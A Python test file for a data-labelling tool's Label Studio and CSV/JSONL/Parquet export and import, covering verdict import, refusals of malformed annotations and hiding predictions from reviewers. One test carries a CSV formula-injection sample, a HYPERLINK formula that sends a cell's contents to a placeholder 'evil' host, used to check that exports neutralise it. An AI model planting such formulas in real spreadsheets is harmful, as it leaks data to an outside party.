"""Cases to Label Studio and back, and as files: nothing lost, nobody led, and every refusal says why."""

import csv
import io
import json
from uuid import UUID, uuid4
from xml.etree import ElementTree

import pyarrow.parquet as parquet
import pytest
from hypothesis import given
from hypothesis import strategies as st
from starlette.testclient import TestClient
from typer.testing import CliRunner

from demur.review import cases, queue
from demur.review.item import Kind, Status
from demur.serve.cli import app as cli
from demur.serve.config.file import Config
from demur.serve.config.task import TaskConfig
from demur.serve.contract.pictures.formats import PNG, prefix_of
from demur.serve.web.review.app import console_app
from demur.serve.web.review.case_import import import_verdicts
from demur.serve.web.review.label_studio import BadExport, input_data, input_kind, label_config, rows_of_export
from demur.serve.web.review.service import ReviewService
from demur.traffic import log
from demur.traffic.dataset import read_labelled_file
from demur.traffic.table_file import rows_of
from tests.conftest import entry, new_case, resolve

PNG_PREFIX = prefix_of(PNG)

TREE = {"A01": [], "A0101": ["A01"], "A010101": ["A0101"], "B02": []}

TASKS = {
    "toy": {"kind": "multiclass", "labels": ["1", "3", "7"]},
    "codes": {"kind": "multilabel", "labels": list(TREE), "tree": TREE},
    "flags": {"kind": "multilabel", "labels": ["a", "b", "c"]},
    "letters": {"kind": "choice"},
    "talker": {"kind": "generate"},
}


def configured(**review) -> Config:
    same = {
        "host": {"kind": "transformers", "checkpoint": "nowhere"},
        "scores": ["improbability"],
        "confidence": {"score": "improbability"},
        "policy": {"kind": "threshold", "limit": 0.3},
    }
    text = {
        "host": {"kind": "classifier", "checkpoint": "nowhere"},
        "scores": ["binary_entropy"],
        "confidence": {"score": "binary_entropy"},
        "policy": {"kind": "threshold", "limit": 0.3},
    }
    models = {name: {**(text if task["kind"] == "multilabel" else same), "task": task} for name, task in TASKS.items()}
    return Config.model_validate({"models": models, "review": {"undo_seconds": 0, **review}})


def task(name: str) -> TaskConfig:
    return TaskConfig.model_validate(TASKS[name])


@pytest.fixture
def desk(database):
    return ReviewService(configured(), database)


@pytest.fixture
def held(database):
    """Put a case into the queue."""

    def held(*, case=None, **changes):
        one = entry(**{"input": "the cat sat", **changes})
        with database.transaction() as connection:
            log.append(connection, [one])
            queue.enqueue(connection, [new_case(one, **(case or {}))])
        return one.record.id

    return held


@pytest.fixture
def export(database):
    """What the API gives, as a lead."""

    http = TestClient(console_app(configured(), database), headers={"X-Demur-Reviewer": "lea"})

    def export(model="toy", **query):
        response = http.get("/v1/export", params={"model": model, **query})
        assert response.status_code == 200, response.text
        return response

    return export


def chosen(task, label, person="ada@example.org", **changes):
    """A task as it comes back from Label Studio, with one annotation."""
    kind = "taxonomy" if label and isinstance(label[0], list) else "choices"
    annotation = {
        "id": 1001,
        "completed_by": {"id": 10, "email": person},
        "result": [{"from_name": "label", "to_name": "input", "type": kind, "value": {kind: label}}],
        "was_cancelled": False,
        "created_at": "2026-11-21T10:00:00.000000Z",
        "lead_time": 4.25,
        **changes,
    }
    return {"id": 1, "project": 83, **task, "annotations": [*task["annotations"], annotation]}


def state(database, case_id):
    with database.transaction() as connection:
        return cases.case(connection, case_id), cases.opinions_of(connection, [case_id])[case_id]


@pytest.mark.parametrize(
    ("model", "kind", "tags"),
    [
        ("toy", "text", ["Text", "Choices", "Choice", "Choice", "Choice", "TextArea"]),
        ("toy", "image", ["Image", "Choices", "Choice", "Choice", "Choice", "TextArea"]),
        ("flags", "text", ["Text", "Choices", "Choice", "Choice", "Choice", "TextArea"]),
        ("codes", "text", ["Text", "Taxonomy", "Choice", "Choice", "Choice", "Choice", "TextArea"]),
        ("letters", "choice", ["Text", "Text", "Choices", *["Choice"] * 10, "TextArea"]),
        ("talker", "chat", ["Paragraphs", "Header", "Text", "Choices", "Choice", "Choice", "TextArea"]),
    ],
)
def test_the_labelling_configuration_has_the_tags_of_the_task(model, kind, tags):
    view = ElementTree.fromstring(label_config(task(model), kind))
    found = list(view.iter())
    assert [element.tag for element in found] == ["View", *tags]
    names = {element.get("name") for element in found}
    assert all(element.get("toName") in names for element in found if element.get("toName"))
    (control,) = [element for element in found if element.get("name") == "label"]
    assert control.get("choice") == {"toy": "single", "flags": "multiple"}.get(model, control.get("choice"))


def test_a_tree_is_nested_choices():
    view = ElementTree.fromstring(label_config(task("codes"), "text"))
    top = [choice.get("value") for choice in view.findall("Taxonomy/Choice")]
    assert top == ["A01", "B02"]
    assert view.find("Taxonomy/Choice/Choice/Choice").get("value") == "A010101"


def test_inputs_of_every_kind_are_data_that_the_tags_show(held, export):
    held()
    held(model="flags", prediction=[], input=[[0.0, 1.0], [0.5, 0.0]])
    held(model="letters", prediction="A", input={"question": "6 * 7?", "options": ["42", "43"]})
    reply = {"text": "5", "finish_reason": "stop"}
    held(model="talker", prediction="right", input={"messages": [{"role": "user", "content": "2 + 2?"}]}, reply=reply)
    held(model="talker", prediction="right", input="2 + 2?", reply=reply)
    assert export().json()[0]["data"]["text"] == "the cat sat"
    assert export("flags").json()[0]["data"]["image"].startswith(PNG_PREFIX)
    data = export("letters").json()[0]["data"]
    assert (data["question"], data["options"]) == ("6 * 7?", "A. 42\nB. 43")
    for told in export("talker").json():
        assert told["data"]["messages"] == [{"author": "user", "text": "2 + 2?"}]
        assert told["data"]["reply"] == "5"


def test_nothing_that_leads_goes_out_unless_it_is_asked_for(held, export, database):
    held()
    held(case={"blind": True})
    ended = held()
    with database.transaction() as connection:
        resolve(connection, ended, "ada", "3")
    for told in export().json():
        assert told["predictions"] == []
        assert told["data"]["demur_prediction_shown"] is False
        assert not {"kind", "reason", "confidence", "status"} & set(told["data"])
    seen, blind, done = export(with_predictions=True).json()
    (prediction,) = seen["predictions"]
    assert (prediction["model_version"], prediction["score"]) == ("toy-1", 0.61)
    assert prediction["result"][0]["value"] == {"choices": ["7"]}
    assert seen["data"]["demur_prediction_shown"] is True
    assert (blind["predictions"], blind["data"]["demur_prediction_shown"]) == ([], False)
    assert (seen["annotations"], blind["annotations"]) == ([], [])
    (annotation,) = done["annotations"]
    assert annotation["completed_by"] == {"email": "ada"}
    assert annotation["result"][0]["value"] == {"choices": ["3"]}


def test_verdicts_come_back_as_opinions_and_count(held, export, desk, database):
    plain, second = held(), held(case={"opinions_wanted": 2})
    one, two = export(with_predictions=True).json()
    comment = {"from_name": "comment", "to_name": "input", "type": "textarea", "value": {"text": ["a", "b"]}}
    one = chosen(one, ["3"])
    one["annotations"][0]["result"].append(comment)
    two = chosen(chosen(two, ["7"], "bob@example.org"), ["7"])
    people = {"bob@example.org": "bob"}
    rows = import_verdicts(desk, [one, two], people=people)
    assert [(row.became, row.person) for row in rows] == [
        ("taken", "ada@example.org"),
        ("taken", "bob"),
        ("taken", "ada@example.org"),
    ]
    case, (said,) = state(database, plain)
    assert (case.status, case.label, case.resolution) == (Status.RESOLVED, "3", "agreed")
    assert (said.seconds, said.saw_prediction, said.comment) == (4.25, True, "a\nb")
    case, said = state(database, second)
    assert (case.status, case.label, len(said)) == (Status.RESOLVED, "7", 2)
    with database.transaction() as connection:
        assert [outcome.label for outcome in log.outcomes_of(connection, plain)] == ["3"]
        before = connection.execute("select count(*) from review_events").fetchone()
    assert {row.became for row in import_verdicts(desk, [one, two], people=people)} == {"known"}
    with database.transaction() as connection:
        assert connection.execute("select count(*) from review_events").fetchone() == before


@pytest.mark.parametrize(("shown", "saw"), [(True, True), (False, False), (None, True)])
def test_whether_they_saw_the_prediction_is_on_record_and_in_doubt_they_did(held, export, desk, database, shown, saw):
    id = held()
    (told,) = export().json()
    told["data"]["demur_prediction_shown"] = shown
    import_verdicts(desk, [chosen(told, ["3"])], people={})
    assert state(database, id)[1][0].saw_prediction is saw


def test_several_labels_and_paths_come_back_closed(held, export, desk, database):
    flags = held(model="flags", prediction=["a"])
    none = held(model="flags", prediction=[])
    code = held(model="codes", prediction=["A01", "A0101"])
    one, two = export("flags", with_predictions=True).json()
    (three,) = export("codes", with_predictions=True).json()
    assert three["predictions"][0]["result"][0]["value"] == {"taxonomy": [["A01", "A0101"]]}
    back = [chosen(one, ["c", "a"]), chosen(two, [], result=[]), chosen(three, [["A01", "A0101", "A010101"]])]
    assert {row.became for row in import_verdicts(desk, back, people={})} == {"taken"}
    assert state(database, flags)[0].label == ["a", "c"]
    assert state(database, none)[0].label == []
    assert state(database, code)[0].label == ["A01", "A0101", "A010101"]
    (again,) = export("codes").json()
    assert again["annotations"][0]["result"][0]["value"] == {"taxonomy": [["A01", "A0101", "A010101"]]}
    assert {row.became for row in import_verdicts(desk, back, people={})} == {"known"}


def test_what_was_skipped_cannot_be_told(held, export, desk, database):
    id = held()
    (told,) = export().json()
    (row,) = import_verdicts(desk, [chosen(told, [], result=[], was_cancelled=True)], people={})
    assert (row.became, row.label) == ("taken", None)
    case, (said,) = state(database, id)
    assert (case.status, said.reason) == (Status.ADJUDICATION, "skipped in Label Studio")


def test_what_cannot_be_taken_is_refused_by_itself_and_nothing_else(held, export, desk, database):
    free, claimed, ended = held(), held(), held()
    with database.transaction() as connection:
        queue.claim(connection, claimed, "eve", lease_seconds=60)
        resolve(connection, ended, "eve", "1")
    one, two, three = export().json()
    elsewhere = {"data": {"text": "from elsewhere"}, "annotations": []}
    gone = {**one, "data": {**one["data"], "demur_case": str(uuid4())}, "annotations": []}
    back = [
        chosen(one, ["eleven"]),
        chosen(one, ["1", "3"]),
        chosen(one, [["3"], 7]),
        chosen(one, ["3"], completed_by=7),
        chosen(one, ["3"], completed_by={"email": "a\x07"}),
        chosen(one, ["3"], result="3"),
        chosen(elsewhere, ["3"]),
        chosen(gone, ["3"]),
        {**one, "annotations": ["3"]},
        chosen(two, ["3"]),
        chosen({**three, "annotations": []}, ["3"]),
        chosen({**three, "annotations": []}, ["3"], "eve"),
        chosen(one, ["3"], completed_by=8),
    ]
    rows = import_verdicts(desk, back, people={"8": "ada"})
    assert [row.became for row in rows] == ["refused"] * (len(back) - 1) + ["taken"]
    reasons = [row.why for row in rows]
    for place, why in enumerate(
        [
            "'eleven' is not a label",
            "it chooses 2 labels",
            "no text",
            "--person 7=",
            "no name of a person",
            "no `result`",
            "not exported from here",
            "there is no case",
            "no `result`",
            "with eve",
            "has ended",
            "eve has said '1'",
        ]
    ):
        assert why in reasons[place], reasons[place]
    assert state(database, free)[0].label == "3"
    with database.transaction() as connection:
        assert cases.draft_of(connection, claimed, "ada@example.org")["label"] == "3"  # not lost


def test_only_reviewers_are_taken_where_they_are_named(held, export, database):
    held()
    (told,) = export().json()
    desk = ReviewService(
        configured(people={"ada": {"models": ["toy"], "adjudicates": True}, "bob": {"models": ["flags"]}}), database
    )
    back = [chosen(told, ["3"], name) for name in ("mallory", "bob", "ada")]
    assert [row.became for row in import_verdicts(desk, back, people={})] == ["refused", "refused", "taken"]


@pytest.mark.parametrize("content", ["", "{", "{}", "[1]", '"text"', "[" * 100_000])
def test_a_file_that_is_no_export_is_refused(content):
    with pytest.raises(BadExport, match="Label Studio as JSON"):
        rows_of_export(content)


def test_what_nobody_could_look_at_is_left_out_and_counted(held, export, database):
    held()
    gone = held()
    with database.transaction() as connection:
        connection.execute("delete from payloads where record_id = %s", (gone,))
    response = export()
    assert (len(response.json()), response.headers["X-Demur-Left-Out"]) == (1, "1")
    assert len(export(format="jsonl").text.splitlines()) == 2


def test_files_hold_all_that_is_known(held, export, database, tmp_path):
    id = held(group="north", input=[[0.0, 0.5]])
    other = held(case={"kind": Kind.SPOT_CHECK})
    with database.transaction() as connection:
        resolve(connection, id, "ada", "3")
    lines = [json.loads(line) for line in export(format="jsonl").text.splitlines()]
    rows = list(csv.DictReader(io.StringIO(export(format="csv").text)))
    table = parquet.read_table(io.BytesIO(export(format="parquet").content)).to_pylist()
    assert [row["case"] for row in lines] == [row["case"] for row in rows] == [str(id), str(other)]
    assert list(lines[0]) == list(rows[0]) == list(table[0])
    for row in (lines[0], rows[0], table[0]):
        assert (row["label"], row["resolution"], row["group"], row["kind"]) == ("3", "agreed", "north", "held")
    assert lines[0]["input"] == json.loads(rows[0]["input"]) == json.loads(table[0]["input"]) == [[0.0, 0.5]]
    assert lines[0]["opinions"][0]["reviewer"] == table[0]["opinions"][0]["reviewer"] == "ada"
    assert (rows[1]["label"], table[1]["label"]) == ("", None)
    assert table[0]["created_at"].tzinfo is not None
    for form in ("jsonl", "csv"):
        path = tmp_path / f"resolved.{form}"
        path.write_bytes(export(format=form, status="resolved").content)
        read = read_labelled_file(path)
        assert (read.inputs, read.labels, read.groups) == ([[[0.0, 0.5]]], ["3"], ["north"])


def test_no_cell_of_a_table_is_a_formula_and_all_come_back(held, export, database, tmp_path):
    formulas = ['=HYPERLINK("http://evil/?"&A1,"x")', "\t=1+1", "'=1", "-1+1", "-1", "plain"]
    for formula in formulas:
        held(group="@SUM(1)", input=formula, reason=f"={formula}")
    with database.transaction() as connection:
        connection.execute("update review_items set moved_by = 'x', claimed_by = '=1'")
    content = export(format="csv").content
    for row in csv.reader(io.StringIO(content.decode())):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or float(cell) == -1
    path = tmp_path / "cases.csv"
    path.write_bytes(content)
    rows = [row for _, row in rows_of(path)]
    assert [row["input"] for row in rows] == formulas
    assert {row["group"] for row in rows} == {"@SUM(1)"}
    lines = [json.loads(line) for line in export(format="jsonl").text.splitlines()]
    assert [line["input"] for line in lines] == formulas  # what machines read stays as it is


def test_labels_that_hold_together_are_lists_in_a_table(held, export, database):
    held(model="flags", prediction=["a", "b"], label_confidence=[0.9, 0.8])
    (row,) = parquet.read_table(io.BytesIO(export("flags", format="parquet").content)).to_pylist()
    assert (row["prediction"], row["label"]) == (["a", "b"], None)
    assert parquet.read_table(io.BytesIO(export("letters", format="parquet").content)).num_rows == 0
    assert export("letters", format="csv").text.startswith("case,record,model")
    assert export("letters").json() == []


def test_only_those_who_lead_export_and_import(held, database):
    held()
    people = {"ada": {}, "lea": {"leads": True, "adjudicates": True, "models": ["flags"]}}
    app = console_app(configured(people=people), database)
    ada, lea = (TestClient(app, headers={"X-Demur-Reviewer": name}) for name in ("ada", "lea"))
    for path in ("export?model=toy", "label-config?model=toy"):
        assert ada.get(f"/v1/{path}").status_code == 403
    assert ada.post("/v1/import", content="[]").status_code == 403
    assert lea.get("/v1/export?model=toy").json() == []  # and only what they may see
    assert lea.get("/v1/export?model=nobody").status_code == 404
    assert lea.post("/v1/import", content="{").status_code == 422
    assert lea.post("/v1/import?person=7", content="[]").status_code == 422


def test_the_same_over_http(held, export, database):
    held()
    app = console_app(configured(), database)
    lea = TestClient(app, headers={"X-Demur-Reviewer": "lea"})
    assert "<Text" in lea.get("/v1/label-config?model=toy").text
    refused = lea.get("/v1/label-config?model=flags")
    assert (refused.status_code, "text, image or table" in refused.text) == (422, True)
    assert "<Image" in lea.get("/v1/label-config?model=flags&input=image").text
    (told,) = export().json()
    back = json.dumps([chosen(told, ["3"], completed_by=7)])
    found = lea.post("/v1/import?person=7%3Dada", content=back).json()
    assert (found["taken"], found["refused"], found["rows"][0]["person"]) == (1, 0, "ada")
    assert UUID(found["rows"][0]["case"])


anything = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=8,
)
results = st.fixed_dictionaries({"from_name": st.sampled_from(["label", "comment"]) | anything, "value": anything})
annotations = st.fixed_dictionaries(
    {"result": st.lists(results | anything, max_size=2) | anything},
    optional=dict.fromkeys(("completed_by", "lead_time", "was_cancelled", "created_at"), anything),
)


@given(st.lists(annotations | anything, max_size=3) | anything)
def test_nothing_in_a_file_is_ever_more_than_a_refusal(desk, database, annotations):
    with database.transaction() as connection:
        row = connection.execute("select id from review_items").fetchone()
    if row is None:
        one = entry()
        with database.transaction() as connection:
            log.append(connection, [one])
            queue.enqueue(connection, [new_case(one)])
        row = (one.record.id,)
    tasks = [{"data": {"demur_case": str(row[0])}, "annotations": annotations}]
    for found in import_verdicts(desk, rows_of_export(json.dumps(tasks)), people={}):
        assert found.became == "refused" or found.person


@pytest.fixture
def run(database, tmp_path, dsn):
    """Run `demur review` on this database."""
    config = tmp_path / "demur.yaml"
    told = configured().model_dump(mode="json", exclude_defaults=True)
    told["models"] = json.loads(json.dumps(told["models"]))
    config.write_text(json.dumps({**told, "database": dsn}))

    def run(*words):
        return CliRunner().invoke(cli, ["review", *map(str, words), "--config", str(config)])

    return run


def test_export_and_import_on_the_command_line(run, held, database, tmp_path):
    id = held()
    file = tmp_path / "out" / "tasks.json"
    done = run("export", "toy", "--out", file)
    assert done.exit_code == 0, done.output
    assert "1 cases of toy" in done.output
    assert "<Choices" in run("label-config", "toy").output
    back = tmp_path / "back.json"
    (told,) = json.loads(file.read_text())
    back.write_text(json.dumps([chosen(told, ["3"], completed_by=7)]))
    refused = run("import", back)
    assert refused.exit_code == 1
    assert "0 taken, 0 known from before, 1 refused" in refused.output
    assert "1 taken" in run("import", back, "--person", "7=ada").output
    assert "1 known" in run("import", back, "--person", "7=ada").output
    assert state(database, id)[0].claimed_by == "ada"
    assert run("export", "toy", "--format", "parquet", "--status", "resolved", "--out", file).exit_code == 0
    assert parquet.read_table(file).num_rows == 1
    status = run("status").output
    assert "toy" in status
    assert "oldest" in status


def test_many_cases_are_changed_on_the_command_line(run, held, database):
    first, second = held(), held()
    with database.transaction() as connection:
        queue.claim(connection, first, "bob", lease_seconds=60)
    words = ("change", "show=open&model=toy", "--why", "they know them", "--keep-for", "ada", "--priority", 3)
    assert run(*words, "--yes").exit_code == 0
    assert (state(database, second)[0].assigned_to, state(database, second)[0].priority) == ("ada", 3)
    assert state(database, first)[0].assigned_to is None
    told = run(*words, "--yes").output
    assert "Nobody called ada has answered a case yet" in told
    assert "it is with bob" in told
    assert "0 of 2 cases were changed, 1 were so before, 1 were left" in told
    assert run(*words).exit_code == 1  # it asks before, and nobody said yes
    assert run("change", "model=toy", "--why", "x", "--keep-for", "", "--due-hours", 2, "--yes").exit_code == 0
    assert state(database, second)[0].assigned_to is None
    assert run("change", "model=toy", "--why", "x", "--withdraw", "--yes").exit_code == 0
    assert state(database, second)[0].status == "withdrawn"
    assert "no case fits, so nothing is changed" in run("change", "model=toy&show=waiting", *words[2:]).output
    with database.transaction() as connection:
        (actor,) = connection.execute(
            "select distinct actor from review_events where case_id = %s and actor is not null", (second,)
        ).fetchone()
    assert actor.endswith(" (command)")


def test_the_command_line_says_what_is_wrong(run, tmp_path):
    for words, why in (
        (("export", "toy", "--out", tmp_path / "x", "--format", "xml"), "not one of: label-studio"),
        (("label-config", "toy", "--input", "film"), "is not text, image or table"),
        (("label-config", "toy"), "there is no case"),
        (("import", tmp_path / "nothing.json"), "there is no such file"),
        (("export", "nobody", "--out", tmp_path / "x"), "nobody"),
        (("change", "model=toy", "--why", "x"), "write either --withdraw, or any of"),
        (("change", "model=toy", "--why", "x", "--withdraw", "--priority", 1), "write either --withdraw, or any of"),
        (("change", "nonsense=toy", "--why", "x", "--withdraw"), "'nonsense' is not one of"),
        (("change", "model=toy", "--why", "x", "--due-hours", "-1", "--yes"), "a number of hours from now"),
    ):
        done = run(*words)
        assert done.exit_code == 1
        assert why in str(done.exception)


def test_a_row_of_a_table_is_shown_as_one_in_label_studio():
    row = {"age": 41, "job": None, "smoker": True, "note": "<b>late</b>"}
    assert input_kind(row, task("toy")) == "table"
    config = ElementTree.fromstring(label_config(task("toy"), "table"))
    assert config.find("Table").attrib == {"name": "input", "value": "$table"}
    assert config.find("Choices").get("toName") == "input"
    told = input_data(row, task("toy"), None)
    assert told == {"table": {"age": 41, "job": "null", "smoker": True, "note": "<b>late</b>"}}
